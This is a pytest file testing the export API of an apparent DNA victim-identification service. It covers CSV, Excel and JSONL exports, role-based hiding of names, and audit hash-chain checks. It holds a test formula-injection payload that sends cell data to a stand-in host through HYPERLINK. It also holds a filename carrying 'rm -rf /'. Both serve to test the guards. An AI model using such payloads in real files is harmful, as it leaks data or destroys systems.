"""Exports (``/api/exports/...``): the demo case after matching, read back with the csv module, openpyxl
and json; filters, names by role, the formula guard, the audit's own entries, the audit trail's hash
chain recomputed from the JSON lines, and a 20,000-row candidate export streamed in pages."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from opendvi.reports import exports as ex
from opendvi.store.audit import GENESIS, entry_hash
from tests.servicekit import SECRET_NAME, assert_error_shape, bearer, make_app, match, migrated_engine

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The demo case matched; names of every missing person; V1 proposed (note: a formula), V2 confirmed."""
    tmp = tmp_path_factory.mktemp("exports")
    with migrated_engine("sqlite", tmp) as engine:
        app = make_app(engine)
        client = TestClient(app)
        h = {u: bearer(client, u) for u in ("admin", "intake", "lab", "dvi", "reviewer", "liaison")}
        run = match(client, app, h["dvi"])
        for code in ("M1", "M2", "M3", "M4a", "M4b", "M5"):
            r = client.put(f"/api/missing-persons/{code}/details", json={"full_name": f"{SECRET_NAME} {code}"},
                           headers=h["intake"])
            assert r.status_code == 200, r.text
        best = {b: client.get(f"/api/remains/{b}/candidates", headers=h["dvi"]).json()[0] for b in ("V1", "V2")}
        proposed = client.post("/api/identifications", json={"candidate_id": best["V1"]["id"], "note": INJECTION},
                               headers=h["dvi"])
        confirmed = client.post("/api/identifications", json={"candidate_id": best["V2"]["id"], "note": "@SUM(1)"},
                                headers=h["dvi"])
        assert proposed.status_code == confirmed.status_code == 201
        r = client.post(f"/api/identifications/{confirmed.json()['id']}/confirm", json={"reason": "-2+3"},
                        headers=h["reviewer"])
        assert r.status_code == 200, r.text
        yield {"app": app, "client": client, "h": h, "run": run["id"], "proposed": proposed.json()["id"],
               "confirmed": confirmed.json()["id"]}


def _csv(r: Any) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, for spreadsheets
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert int(r.headers["x-row-count"]) == len(rows)
    return rows


def _xlsx(r: Any) -> tuple[list[str], list[list[Any]], Any]:
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"] == ex_media("xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    ws = wb.worksheets[0]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    return [str(v) for v in values[0]], values[1:], ws


def ex_media(fmt: str) -> str:
    from opendvi.service.routes.exports import MEDIA

    return MEDIA[fmt]


def _api_list(client: TestClient, path: str, headers: dict[str, str], **params: Any) -> list[dict[str, Any]]:
    r = client.get(path, params={"per_page": 500, **params}, headers=headers)
    assert r.status_code == 200, r.text
    return list(r.json())


@pytest.mark.parametrize("filters", [{}, {"operation": "demo", "min_log10_lr": 3}, {"q": "f4"},
                                     {"max_log10_lr": 0}, {"unreviewed": "true"}],
                         ids=["all", "operation-min", "q", "max", "unreviewed"])
def test_candidates_csv__the_rows_of_the_api_with_the_same_filters(world: dict[str, Any],
                                                                   filters: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    rows = _csv(client.get("/api/exports/candidates.csv", params=filters, headers=h["dvi"]))
    api = {c["id"]: c for c in _api_list(client, "/api/candidates", h["dvi"], **filters)}
    assert [int(r["candidate_id"]) for r in rows] == sorted(api)  # id order, the same set
    assert api, "the filter should keep some candidates"
    for r in rows:
        c = api[int(r["candidate_id"])]
        assert (r["remains"], r["missing_person"], r["family"], int(r["rank"])) == (
            c["remains"], c["missing_person"], c["family"], c["rank"])
        assert (float(r["log10_lr"]) if r["log10_lr"] else None) == c["log10_lr"]
        assert float(r["posterior"]) == c["posterior"] and int(r["run_id"]) == world["run"]
    if "min_log10_lr" in filters:
        assert all(float(r["log10_lr"]) >= 3 for r in rows) and len(rows) < len(_api_list(client, "/api/candidates",
                                                                                         h["dvi"]))


def test_candidates_xlsx__translated_titles_same_rows_numbers_as_numbers(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    rows = _csv(client.get("/api/exports/candidates.csv?q=V3", headers=h["reviewer"]))
    r = client.get("/api/exports/candidates.xlsx?q=V3", headers=h["reviewer"])
    header, data, ws = _xlsx(r)
    assert header[:4] == ["Candidate", "Matching run", "Operation", "Remains"] and "log10 LR" in header
    assert ws.freeze_panes == "A2"
    assert len(data) == len(rows) == int(r.headers["x-row-count"]) > 0
    for x, c in zip(data, rows, strict=True):
        assert x[0] == int(c["candidate_id"]) and x[3] == "V3"
        assert isinstance(x[header.index("log10 LR")], float)
    assert 'filename="opendvi-candidates-' in r.headers["content-disposition"]
    assert r.headers["content-disposition"].startswith("attachment;")


def test_identifications__filters_of_the_page_and_the_api(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    every = _csv(client.get("/api/exports/identifications.csv", headers=h["dvi"]))
    assert [int(r["identification_id"]) for r in every] == sorted([world["proposed"], world["confirmed"]])
    proposed = _csv(client.get("/api/exports/identifications.csv?state=proposed", headers=h["dvi"]))
    assert [(r["identification_id"], r["state"], r["remains"]) for r in proposed] == [
        (str(world["proposed"]), "proposed", "V1")]
    by_q = _csv(client.get("/api/exports/identifications.csv", params={"q": "v2", "operation": "demo"},
                           headers=h["reviewer"]))
    assert [r["remains"] for r in by_q] == ["V2"] and by_q[0]["decided_by"] == "reviewer"
    assert _csv(client.get("/api/exports/identifications.csv?q=nothing-like-this", headers=h["dvi"])) == []
    header, data, _ws = _xlsx(client.get("/api/exports/identifications.xlsx?state=confirmed", headers=h["admin"]))
    assert "Name" not in header and len(data) == 1 and data[0][header.index("State")] == "confirmed"


def _every_export(client: TestClient, headers: dict[str, str]) -> Iterator[tuple[str, str]]:
    """(url, every text of the export) for each export the role may read."""
    for kind in ("candidates", "identifications", "audit"):
        for fmt in ("csv", "xlsx", "jsonl") if kind == "audit" else ("csv", "xlsx"):
            for query in ("", "?state=confirmed") if kind == "identifications" else ("",):
                url = f"/api/exports/{kind}.{fmt}{query}"
                r = client.get(url, headers=headers)
                if r.status_code == 403:
                    continue
                assert r.status_code == 200, (url, r.text[:300])
                if fmt == "xlsx":
                    _header, data, _ws = _xlsx(r)
                    yield url, "\n".join(str(v) for row in data for v in row)
                else:
                    yield url, r.content.decode("utf-8-sig")


@pytest.mark.parametrize("user", ["lab", "dvi", "reviewer", "admin"])
def test_no_name_in_any_export_of_the_dna_side(world: dict[str, Any], user: str) -> None:
    seen = 0
    for url, text in _every_export(world["client"], world["h"][user]):
        seen += 1
        assert SECRET_NAME not in text, f"{user} got a name in {url}"
    assert seen >= (0 if user == "lab" else 2)


def test_the_liaison_gets_names_of_confirmed_identifications_only(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    rows = _csv(client.get("/api/exports/identifications.csv", headers=h["liaison"]))
    assert [(r["state"], r["remains"], r["missing_person_name"]) for r in rows] == [
        ("confirmed", "V2", f"{SECRET_NAME} M2")]
    assert _csv(client.get("/api/exports/identifications.csv?state=proposed", headers=h["liaison"])) == []
    header, data, _ws = _xlsx(client.get("/api/exports/identifications.xlsx", headers=h["liaison"]))
    assert data[0][header.index("Name")] == f"{SECRET_NAME} M2"
    for kind in ("candidates.csv", "audit.csv"):
        assert_error_shape(client.get(f"/api/exports/{kind}", headers=h["liaison"]), 403)


def test_formula_injection_guard(world: dict[str, Any]) -> None:
    assert ex.guard("=1+2") == "'=1+2" and ex.guard("+1") == "'+1" and ex.guard("@A1") == "'@A1"
    assert ex.guard("-V1") == "'-V1" and ex.guard("\t=1") == "'\t=1"
    assert ex.guard("V=1") == "V=1" and ex.guard(-2.5) == -2.5 and ex.guard(3) == 3 and ex.guard(None) is None
    client, h = world["client"], world["h"]
    rows = {r["remains"]: r for r in _csv(client.get("/api/exports/identifications.csv", headers=h["dvi"]))}
    assert rows["V1"]["proposal_note"] == "'" + INJECTION
    assert rows["V2"]["proposal_note"] == "'@SUM(1)" and rows["V2"]["decision_reason"] == "'-2+3"
    header, data, ws = _xlsx(client.get("/api/exports/identifications.xlsx", headers=h["dvi"]))
    col = header.index("Proposal note")
    notes = {row[header.index("Remains")]: row[col] for row in data}
    assert notes["V1"] == "'" + INJECTION and notes["V2"] == "'@SUM(1)"
    for row in ws.iter_rows(min_row=2):
        assert row[col].data_type == "s"  # text, never a formula
    # numbers stay numbers: a negative log10 LR is not text with an apostrophe
    cands = _csv(client.get("/api/exports/candidates.csv?max_log10_lr=0", headers=h["dvi"]))
    assert cands and all(not r["log10_lr"].startswith("'") for r in cands)


def test_each_export_appends_an_audit_entry(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    r = client.get("/api/exports/candidates.xlsx", params={"operation": "demo", "min_log10_lr": 3}, headers=h["dvi"])
    assert r.status_code == 200
    entries = client.get("/api/audit?action=export.candidates&per_page=1", headers=h["admin"]).json()
    e = entries[0]
    assert e["username"] == "dvi" and e["object_type"] == "export" and e["object_id"] == "candidates"
    assert e["details"]["format"] == "xlsx"
    assert e["details"]["filters"] == {"run": world["run"], "operation": "demo", "min_log10_lr": 3.0}
    assert e["details"]["rows"] == int(r.headers["x-row-count"]) > 0
    r = client.get("/api/exports/identifications.csv?state=confirmed", headers=h["liaison"])
    e = client.get("/api/audit?action=export.identifications&per_page=1", headers=h["admin"]).json()[0]
    assert (e["username"], e["details"]["rows"], e["details"]["filters"]) == ("liaison", 1, {"state": ["confirmed"]})


def test_audit_jsonl__the_chain_recomputes(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    head_before = client.get("/api/audit?per_page=1", headers=h["admin"]).json()[0]["seq"]
    r = client.get("/api/exports/audit.jsonl", headers=h["reviewer"])
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/x-ndjson")
    entries = [json.loads(line) for line in r.text.splitlines()]
    assert len(entries) == int(r.headers["x-row-count"]) == head_before  # the whole log up to the request
    prev = GENESIS
    for k, e in enumerate(entries, start=1):
        assert e["seq"] == k and e["prev_hash"] == prev
        assert isinstance(e["details"], str)  # the stored JSON text, which the hash covers
        assert entry_hash(prev_hash=e["prev_hash"], seq=e["seq"], at=e["at"], username=e["username"],
                          action=e["action"], object_type=e["object_type"], object_id=e["object_id"],
                          details=e["details"]) == e["hash"]
        prev = e["hash"]
    # the export's own entry comes after the last exported one, chained to it
    own = client.get("/api/audit?action=export.audit&per_page=1", headers=h["admin"]).json()[0]
    assert own["seq"] == head_before + 1 and own["prev_hash"] == prev
    assert own["details"]["rows"] == len(entries) and own["details"]["format"] == "jsonl"
    # a tampered line no longer matches its hash
    bad = dict(entries[3], username="someone-else")
    assert entry_hash(**{k: bad[k] for k in ("prev_hash", "seq", "at", "username", "action", "object_type",
                                             "object_id", "details")}) != bad["hash"]


def test_audit_filters_csv_and_xlsx(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    rows = _csv(client.get("/api/exports/audit.csv?action=identification.propose", headers=h["admin"]))
    api = client.get("/api/audit?action=identification.propose", headers=h["admin"]).json()
    assert [int(r["seq"]) for r in rows] == sorted(e["seq"] for e in api) and len(rows) == 2
    assert all(r["action"] == "identification.propose" and len(r["hash"]) == 64 for r in rows)
    assert list(rows[0]) == [k for k, _t in ex.audit_columns()]
    header, data, _ws = _xlsx(client.get("/api/exports/audit.xlsx?username=reviewer&object_type=identification",
                                         headers=h["reviewer"]))
    assert header[0] == "Sequence number" and data
    assert {row[header.index("User")] for row in data} == {"reviewer"}


def test_bad_filters_are_422_naming_the_field(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    err = assert_error_shape(client.get("/api/exports/identifications.csv?state=maybe", headers=h["dvi"]), 422)
    assert "state" in json.dumps(err["details"])
    err = assert_error_shape(client.get("/api/exports/candidates.csv?min_log10_lr=high", headers=h["dvi"]), 422)
    assert "min_log10_lr" in json.dumps(err["details"])
    assert_error_shape(client.get("/api/exports/candidates.csv?operation=nope", headers=h["dvi"]), 404)
    assert_error_shape(client.get("/api/exports/candidates.csv"), 401)


def test_exports_work_with_the_session_cookie(world: dict[str, Any]) -> None:
    client = world["client"]
    client.cookies.clear()
    r = client.post("/api/auth/login", json={"username": "reviewer",
                                             "password": "reviewer-password-1"})
    assert r.status_code == 200
    try:
        assert _csv(client.get("/api/exports/identifications.csv"))  # the cookie, no bearer token
    finally:
        client.cookies.clear()


def test_safe_file_names() -> None:
    name = ex.safe_filename("candidates", 'op"; rm -rf /\r\n', ext="csv")
    assert name.startswith("opendvi-candidates-op_rm_-rf_") and name.endswith("Z.csv")
    assert ex.content_disposition(name) == f'attachment; filename="{name}"'
    with pytest.raises(ValueError):
        ex.content_disposition('a"b.csv')


def test_twenty_thousand_candidates_stream_in_pages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run with 20,000 candidates: the CSV comes in many chunks (a page of rows each), every row once."""
    from sqlalchemy import insert, select

    from opendvi.store.db import transaction
    from opendvi.store.models import Candidate, MatchingRun, MissingPerson, Profile, Remains

    with migrated_engine("sqlite", tmp_path) as engine:
        app = make_app(engine)
        client = TestClient(app)
        h = bearer(client, "dvi")
        run_id = match(client, app, h)["id"]
        n_remains, per = 4000, 5
        with transaction(app.state.sessionmaker) as db:
            template = db.execute(select(Remains).limit(1)).scalar_one()
            profile_id = db.execute(select(Profile.id).where(Profile.remains_id == template.id)).scalar_one()
            mps = list(db.execute(select(MissingPerson.id).order_by(MissingPerson.id)).scalars())[:per]
            db.execute(insert(Remains), [{"barcode": f"BULK-{i:05d}", "operation_id": template.operation_id}
                                         for i in range(n_remains)])
            ids = list(db.execute(select(Remains.id).where(Remains.barcode.like("BULK-%"))
                                  .order_by(Remains.barcode)).scalars())
            db.execute(insert(Candidate), [
                {"run_id": run_id, "remains_id": rid, "missing_person_id": mp, "remains_profile_id": profile_id,
                 "log10_lr": float(i % 40) - 10.0 if j else None, "posterior": 0.1, "exclusions": j, "n_markers": 23,
                 "rank": j + 1, "per_marker": {}}
                for i, rid in enumerate(ids) for j, mp in enumerate(mps)])
            assert db.get(MatchingRun, run_id) is not None
        chunks = 0
        body = bytearray()
        with client.stream("GET", "/api/exports/candidates.csv?q=bulk-", headers=h) as r:
            assert r.status_code == 200
            assert r.headers["x-row-count"] == str(n_remains * per)
            for chunk in r.iter_raw():
                chunks += 1
                body += chunk
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]
        assert len(rows) == n_remains * per and len({r[0] for r in rows}) == len(rows)
        assert chunks >= n_remains * per // ex.PAGE_ROWS  # streamed a page at a time, not built whole
        assert [int(r[0]) for r in rows] == sorted(int(r[0]) for r in rows)
        # memory: the paged stream's peak is a fraction of one holding every row (traced Python allocations;
        # some 1.5 MiB against 18 MiB here)
        import tracemalloc

        peaks = {}
        for page_rows in (ex.PAGE_ROWS, n_remains * per + 1):
            with app.state.sessionmaker() as db:
                export = ex.candidates_export(db, q="bulk-")
            tracemalloc.start()
            try:
                chunks_of = ex.csv_chunks(export, app.state.sessionmaker, page_rows=page_rows)
                assert sum(len(c) for c in chunks_of) == len(body)
                peaks[page_rows] = tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()
        assert peaks[ex.PAGE_ROWS] * 4 < peaks[n_remains * per + 1], peaks
        # Excel (write-only mode), read in pages of 7 rows: the rows of the CSV. 500 of them: openpyxl
        # without lxml writes some 2,000 rows of this width a second, too slow for 20,000 in a test
        monkeypatch.setattr(ex, "PAGE_ROWS", 7)
        r = client.get("/api/exports/candidates.xlsx?q=bulk-000", headers=h)
        assert r.status_code == 200 and r.headers["x-row-count"] == "500"
        wb = openpyxl.load_workbook(io.BytesIO(r.content), read_only=True)
        got = [row[:4] for row in wb.worksheets[0].iter_rows(min_row=2, values_only=True)]
        assert got == [(int(x[0]), int(x[1]), x[2], x[3]) for x in rows if x[3].startswith("BULK-000")]


def _href(html: str, element_id: str) -> str:
    import html as html_lib
    import re

    m = re.search(rf'<a href="([^"]+)" id="{element_id}"', html)
    assert m, f"no link #{element_id}"
    return html_lib.unescape(m.group(1))


def test_the_pages_link_exports_with_their_filters(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    page = client.get("/identifications?state=confirmed&q=V2", headers={**h["reviewer"], "accept": "text/html"})
    assert page.status_code == 200
    url = _href(page.text, "export-csv")
    assert url.startswith("/api/exports/identifications.csv?") and "state=confirmed" in url and "q=V2" in url
    assert [r["remains"] for r in _csv(client.get(url, headers=h["reviewer"]))] == ["V2"]
    assert _href(page.text, "export-xlsx").startswith("/api/exports/identifications.xlsx?")
    page = client.get("/audit?action=identification.confirm", headers={**h["admin"], "accept": "text/html"})
    url = _href(page.text, "export-jsonl")
    assert url == "/api/exports/audit.jsonl?action=identification.confirm"
    lines = client.get(url, headers=h["admin"]).text.splitlines()
    assert len(lines) == 1 and json.loads(lines[0])["action"] == "identification.confirm"
    page = client.get("/operations/demo", headers={**h["dvi"], "accept": "text/html"})
    assert _href(page.text, "export-csv") == "/api/exports/candidates.csv?operation=demo"
    for plot in ("progress", "lr-histogram"):
        assert f'<img src="/plots/operations/demo/{plot}.svg"' in page.text
    assert 'alt="' in page.text.split('id="plots"')[1].split("</div>")[0]
    lab = client.get("/operations/demo", headers={**h["lab"], "accept": "text/html"})
    assert lab.status_code == 200 and "/api/exports/candidates" not in lab.text  # not for the laboratory


def test_the_documented_verification_recomputes_an_export(world: dict[str, Any], tmp_path: Path) -> None:
    """docs/reports.md's script, run as written on a fresh export: it passes, and fails on an edited line."""
    import re
    import subprocess
    import sys

    doc = (Path(__file__).resolve().parents[1] / "docs" / "reports.md").read_text(encoding="utf-8")
    section = doc.split("### Re-verifying the audit trail from its JSON lines", 1)[1]
    script = re.search(r"```python\n(.*?)```", section, re.S)
    assert script, "docs/reports.md: no Python script under 'Re-verifying the audit trail'"
    r = world["client"].get("/api/exports/audit.jsonl", headers=world["h"]["admin"])
    (tmp_path / "audit.jsonl").write_bytes(r.content)
    ok = subprocess.run([sys.executable, "-c", script.group(1)], cwd=tmp_path, capture_output=True, text=True)
    assert ok.returncode == 0 and ok.stdout.startswith("intact up to"), ok.stderr
    lines = r.text.splitlines()
    lines[2] = lines[2].replace('"action":"', '"action":"x', 1)
    (tmp_path / "audit.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    bad = subprocess.run([sys.executable, "-c", script.group(1)], cwd=tmp_path, capture_output=True, text=True)
    assert bad.returncode != 0 and "AssertionError" in bad.stderr


def test_in_ukrainian__translated_excel_titles_the_same_csv_keys(world: dict[str, Any]) -> None:
    client, h = world["client"], world["h"]
    uk = {**h["admin"], "cookie": "opendvi_lang=uk"}
    header, _data, _ws = _xlsx(client.get("/api/exports/audit.xlsx", headers=uk))
    assert header[0] == "Порядковий номер"  # the catalogue's "Sequence number"
    english, _data, _ws = _xlsx(client.get("/api/exports/audit.xlsx", headers=h["admin"]))
    assert english[0] == "Sequence number" and len(header) == len(english)
    r = client.get("/api/exports/audit.csv", headers=uk)
    assert r.content.decode("utf-8-sig").splitlines()[0] == ",".join(k for k, _t in ex.audit_columns())


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_exports_and_plots_on_every_backend(backend: str, tmp_path: Path) -> None:
    """The same queries on SQLite and PostgreSQL: rows, names by role, the chain, the progress dates."""
    from opendvi.store.audit import GENESIS

    with migrated_engine(backend, tmp_path) as engine:
        app = make_app(engine)
        client = TestClient(app)
        h = {u: bearer(client, u) for u in ("admin", "intake", "dvi", "reviewer", "liaison")}
        match(client, app, h["dvi"])
        assert client.put("/api/missing-persons/M1/details", json={"full_name": SECRET_NAME},
                          headers=h["intake"]).status_code == 200
        cand = client.get("/api/remains/V1/candidates", headers=h["dvi"]).json()[0]
        ident = client.post("/api/identifications", json={"candidate_id": cand["id"]}, headers=h["dvi"]).json()
        assert client.post(f"/api/identifications/{ident['id']}/confirm", json={},
                           headers=h["reviewer"]).status_code == 200
        rows = _csv(client.get("/api/exports/candidates.csv?min_log10_lr=4", headers=h["dvi"]))
        api = _api_list(client, "/api/candidates", h["dvi"], min_log10_lr=4)
        assert [int(r["candidate_id"]) for r in rows] == sorted(c["id"] for c in api) and rows
        assert _csv(client.get("/api/exports/identifications.csv", headers=h["liaison"]))[0][
            "missing_person_name"] == SECRET_NAME
        assert "missing_person_name" not in _csv(client.get("/api/exports/identifications.csv",
                                                            headers=h["reviewer"]))[0]
        prev = GENESIS
        for line in client.get("/api/exports/audit.jsonl", headers=h["admin"]).text.splitlines():
            e = json.loads(line)
            assert e["prev_hash"] == prev and entry_hash(**{k: e[k] for k in (
                "prev_hash", "seq", "at", "username", "action", "object_type", "object_id", "details")}) == e["hash"]
            prev = e["hash"]
        for url in ("/plots/operations/demo/progress.svg", "/plots/operations/demo/lr-histogram.png",
                    f"/plots/candidates/{cand['id']}/lr-distribution.svg"):
            r = client.get(url, headers=h["dvi"])
            assert r.status_code == 200 and r.headers["content-type"].startswith("image/"), (url, r.text[:200])
        from opendvi.store import repositories as repo

        with app.state.sessionmaker() as db:
            series = repo.operation_progress(db, operation=repo.get_operation(db, code="demo"))
        assert sum(series["confirmed"].values()) == 1 and sum(series["received"].values()) == 8


def test_the_liaisons_page_and_export_show_the_same_rows(world: dict[str, Any]) -> None:
    """The liaison's page shows confirmed identifications whatever the state asked: so does its link."""
    client, h = world["client"], world["h"]
    page = client.get("/identifications?state=proposed", headers={**h["liaison"], "accept": "text/html"})
    assert page.status_code == 200 and f'id="ident-{world["confirmed"]}"' in page.text
    rows = _csv(client.get(_href(page.text, "export-csv"), headers=h["liaison"]))
    assert [int(r["identification_id"]) for r in rows] == [world["confirmed"]]
